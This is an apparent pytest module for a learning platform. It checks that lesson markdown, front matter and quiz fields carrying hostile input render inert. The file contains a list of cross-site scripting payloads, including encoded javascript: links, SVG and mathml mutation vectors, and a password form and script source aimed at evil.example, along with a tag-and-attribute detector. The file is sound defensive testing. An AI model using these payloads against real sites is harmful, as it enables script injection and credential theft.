"""Hostile lesson content never reaches the page as live script, handler, frame or form.

The corpus goes into the body, the front matter (rendered by templates) and the
quiz parameters; the rendered lesson page is then parsed and inspected.
"""

import re
from html.parser import HTMLParser

import pytest

from literacy.learning.content.pipeline import render_lesson
from literacy.learning.content.revisions import apply_revision
from literacy.learning.models import Course, Lesson

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x61;script:alert(1)">encoded</a>',
    '<a href="&#106;avascript:alert(1)">decimal</a>',
    '<a href=" javascript:alert(1)">space</a>',
    "[md link](javascript:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<svg onload="alert(1)"><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div hx-get="/admin/" hx-trigger="load">htmx</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<details open ontoggle="alert(1)">x</details>',
    "<!--quiz-csrf--> <!--quiz-feedback:q1-->",
    '<div class="quiz" id="quiz-q1">fake</div>',
]

QUIZ_TEMPLATE = """```quiz
question: '{text}'
choices: ['{text}', 'plain']
answer: 1
explanation: '{text}'
```
"""


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.forms: list[dict] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"iframe", "frame", "object", "embed", "base", "meta", "style"}:
            self.problems.append(f"<{tag}>")
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            self.problems.append("inline or foreign script")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style" or name.startswith("hx-on"):
                self.problems.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction", "xlink:href", "data"} and (
                re.sub(r"\s", "", value).startswith(("javascript:", "data:", "vbscript:"))
            ):
                self.problems.append(f"{tag} {name}={value}")
        if tag == "form":
            self.forms.append(dict(attrs))


def hostile_lesson(text: str) -> str:
    quoted = text.replace("'", "''")
    return (
        f"---\ntitle: '{quoted}'\nsummary: '{quoted}'\nminutes: 3\ntranslation: hostile\n---\n"
        f"{text}\n\nParagraph {text} inline.\n\n"
        f"- list {text}\n\n> quote {text}\n\n"
        f'!!! note "{text.replace(chr(34), "")}"\n    {text}\n\n'
        + QUIZ_TEMPLATE.format(text=quoted)
        + f"\nFootnote[^x]\n\n[^x]: {text}\n"
    )


@pytest.fixture
def course(db) -> Course:
    return Course.objects.create(language="en", slug="c", title="C", summary="S")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_inert_on_the_lesson_page(course, client, text):
    source = hostile_lesson(text)
    rendered = render_lesson(source, language="en")
    assert rendered.errors == []
    lesson = Lesson(course=course, slug="hostile", language="en", status="published")
    apply_revision(lesson, source=source, rendered=rendered)

    page = client.get("/en/learn/c/hostile/").content.decode()
    assert "<" not in text or text not in page  # never verbatim, in <head> or <body>
    inspector = Inspector()
    inspector.feed(page[page.index("<body") :])
    assert inspector.problems == []
    actions = {form.get("action") for form in inspector.forms}
    assert actions <= {"answer/", "/en/i18n/setlang/", "/en/search/"}  # + the header search
    # our one knowledge check, and the forged quiz markup did not add another
    assert page.count('class="quiz"') == 1
    assert page.count('name="csrfmiddlewaretoken"') == 2  # the quiz and the language switch


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_explanations_are_sanitised_in_feedback(course, client, text):
    source = hostile_lesson(text)
    lesson = Lesson(course=course, slug="hostile", language="en", status="published")
    apply_revision(lesson, source=source, rendered=render_lesson(source, language="en"))
    feedback = client.post(
        "/en/learn/c/hostile/answer/", {"question": "q1", "choice": "1"}, HTTP_HX_REQUEST="true"
    ).content.decode()
    inspector = Inspector()
    inspector.feed(feedback)
    assert inspector.problems == []
    assert inspector.forms == []


def test_hostile_calculator_parameters_are_authoring_errors_or_inert():
    pytest.importorskip("literacy.calculators.embed")
    source = hostile_lesson("x").replace(
        "Paragraph", "```calculator instalment\nprincipal: '<script>alert(1)</script>'\n```\n\nP"
    )
    rendered = render_lesson(source, language="en")
    inspector = Inspector()
    inspector.feed(rendered.html)
    assert rendered.errors or inspector.problems == []
    assert "<script>alert" not in rendered.html


def test_an_unknown_calculator_is_an_authoring_error():
    pytest.importorskip("literacy.calculators.embed")
    source = hostile_lesson("x").replace("Paragraph", "```calculator <script>\n```\n\nP")
    errors = render_lesson(source, language="en").errors
    assert [error.line for error in errors] == [9]
